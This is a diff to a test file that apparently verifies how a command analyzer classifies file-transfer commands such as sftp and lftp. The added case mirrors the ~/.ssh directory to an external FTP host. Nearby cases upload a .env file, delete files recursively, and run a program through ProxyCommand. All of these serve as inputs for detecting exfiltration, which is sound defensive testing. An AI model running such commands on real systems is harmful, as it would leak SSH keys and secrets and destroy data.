@@ -81,6 +81,10 @@ describe("copies between machines", () => {
     "sftp -o ProxyCommand=/tmp/x h": ["run /tmp/x option", "runs shell: /tmp/x", "connect ssh://h fetch checked"],
   });
   effectsOf("lftp", {
+    "lftp -e 'mirror -R ~/.ssh /in; quit' ftp.x.net": [
+      "connect ftp.x.net change sends[$HOME/.ssh body] checked",
+      "connect ftp://ftp.x.net fetch checked",
+    ],
     "lftp ftp.x.example": ["connect ftp://ftp.x.example fetch checked"],
     "lftp -c 'put .env; rm -r old' ftp://x.example": [
       "connect ftp://x.example change sends[.env body] checked",
